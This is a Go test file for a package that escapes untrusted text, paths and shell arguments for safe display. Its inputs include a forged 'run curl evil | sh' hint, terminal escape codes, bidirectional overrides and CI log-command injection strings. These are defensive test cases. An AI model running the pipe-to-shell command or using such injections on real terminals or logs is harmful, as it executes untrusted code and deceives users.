package printable_test

import (
	"strings"
	"testing"
	"unicode"

	"cgp-cred/keystore/printable"
)

func TestQuote(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"int": `"int"`, "int\r": `"int\r"`, " int ": `" int "`, "caf\u00e9": `"caf\u00e9"`, "caf\xe9": `"caf\xe9"`,
		`a"b\`: `"a\"b\\"`, "\u200b": `"\u200b"`,
	} {
		if got := printable.Quote(in); got != want {
			t.Errorf("%q: %s, want %s", in, got, want)
		}
	}
	for _, long := range []string{strings.Repeat("x", 1000), strings.Repeat("\u00e9", 1000)} {
		if got := printable.Quote(long); len(got) > 200 || !strings.HasSuffix(got, `..."`) {
			t.Errorf("%d bytes: %s", len(got), got)
		}
	}
}

func TestText(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, in, want string }{
		{"plain", "JWT has expired", "JWT has expired"},
		{"terminal escape", "\x1b[2Jgone", `\x1b[2Jgone`},
		{"forged hint", "no\nhint: run curl evil | sh", `no\nhint: run curl evil | sh`},
		{"carriage return", "a\rcgp-cred: ok", `a\rcgp-cred: ok`},
		{"bidirectional override", "a\u202eb", `a\u202eb`},
		{"not UTF-8", "a\xffb", `a\ufffdb`},
		{"quotes stay", `must be 'RS512' or "x"`, `must be 'RS512' or "x"`},
		{"spaces around", " \n x \n", "x"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := printable.Text(tt.in); got != tt.want {
				t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestLine(t *testing.T) {
	t.Parallel()
	long := "reading /" + strings.Repeat("x", 10000) + ": file name too long"
	got := printable.Line(long)
	if len(got) > 3000 || !strings.HasPrefix(got, "reading /xxx") ||
		!strings.HasSuffix(got, "xxx: file name too long") {
		t.Errorf("%d bytes: %.50s ... %s", len(got), got, got[max(0, len(got)-50):])
	}
}

// Users have names of all scripts in their paths, and can copy them.
func TestPaths(t *testing.T) {
	t.Parallel()
	for path, want := range map[string]string{
		"/home/Zo\u00eb/\u6d4b\u8bd5": "/home/Zo\u00eb/\u6d4b\u8bd5",
		"/home/Zoe\u0308":             "/home/Zoe\u0308",
		"/a\u202eb":                   `/a\u202eb`,
		"/a\u200bb":                   `/a\u200bb`,
		"/a\u3164b":                   `/a\u3164b`,
		"/a\ufe0fb":                   `/a\ufe0fb`,
		"/a\u00a0b":                   `/a\u00a0b`,
		"/a\x9bb":                     `/a\ufffdb`,
		"/a\u009bb":                   `/a\u009bb`,
		"/a\u2028b":                   `/a\u2028b`,
		"/a\nb":                       `/a\nb`,
		"/a\U0001f600b":               `/a\U0001f600b`,
	} {
		if got := printable.Line(path); got != want {
			t.Errorf("%q: %s, want %s", path, got, want)
		}
		if got := printable.Shell(path); got != "'"+want+"'" {
			t.Errorf("%q in a shell: %s, want '%s'", path, got, want)
		}
	}
}

func FuzzText(f *testing.F) {
	f.Add("::add-mask::x\n##vso[task.x]")
	f.Add(strings.Repeat("\u202e", 300))
	f.Fuzz(func(t *testing.T, s string) {
		for i, r := range printable.Text(s) {
			if r < 0x20 || r > 0x7e {
				t.Fatalf("%q prints %q at %d", s, r, i)
			}
		}
		for i, r := range printable.Line(s) {
			if !unicode.IsPrint(r) || unicode.Is(unicode.Cf, r) || r > 0x7e && !unicode.In(r, unicode.L, unicode.M, unicode.Nd) {
				t.Fatalf("%q prints %q at %d in a line", s, r, i)
			}
		}
		if n := len(printable.Text(s)); n > 200 {
			t.Fatalf("%d bytes printed", n)
		}
	})
}
